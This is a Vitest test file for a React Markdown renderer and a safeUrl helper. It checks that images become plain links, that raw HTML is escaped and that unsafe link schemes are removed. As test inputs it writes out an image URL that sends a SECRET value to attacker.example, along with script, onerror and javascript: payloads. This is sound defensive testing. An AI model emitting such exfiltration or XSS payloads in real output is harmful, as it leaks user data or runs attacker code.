import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';

import { Markdown } from './Markdown';
import { safeUrl } from './markdown-links';

const render = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe('answers rendered as Markdown', () => {
  it('never load an image: it becomes a link the user may open', () => {
    const html = render('See ![the chart](https://attacker.example/p.png?d=SECRET)');
    expect(html).not.toMatch(/<img|preload/);
    expect(html).toContain(
      '<a class="image-link" href="https://attacker.example/p.png?d=SECRET" target="_blank" rel="noopener noreferrer nofollow"',
    );
    expect(html).toContain('>[image: the chart]</a>');
  });

  it('keep raw HTML as text', () => {
    const html = render('<img src=x onerror="alert(1)"> and <script>alert(2)</script>');
    expect(html).not.toMatch(/<img|<script/);
    expect(html).toContain('&lt;img src=x onerror=&quot;alert(1)&quot;&gt;');
  });

  it('drop link schemes other than http, https and mailto', () => {
    const html = render(
      '[a](javascript:alert(1)) [b](data:text/html,x) [c](irc://x) [d](/trpc/x) [e](https://ok.example) [f](mailto:a@b.c) [g](#part)',
    );
    expect(html).not.toMatch(/javascript:|data:|irc:|\/trpc/);
    expect(html).toContain('href="https://ok.example" target="_blank"');
    expect(html).toContain('href="mailto:a@b.c"');
    expect(html).toContain('<a href="#part">g</a>');
  });
});

describe('safeUrl', () => {
  it('keeps only http(s), mailto and fragments', () => {
    expect(safeUrl('HTTPS://ok.example/x')).toBe('HTTPS://ok.example/x');
    for (const url of [
      'javascript:alert(1)',
      ' java\tscript:x',
      'vbscript:x',
      '//evil.example',
      'file:///etc',
    ])
      expect(safeUrl(url)).toBeNull();
  });
});
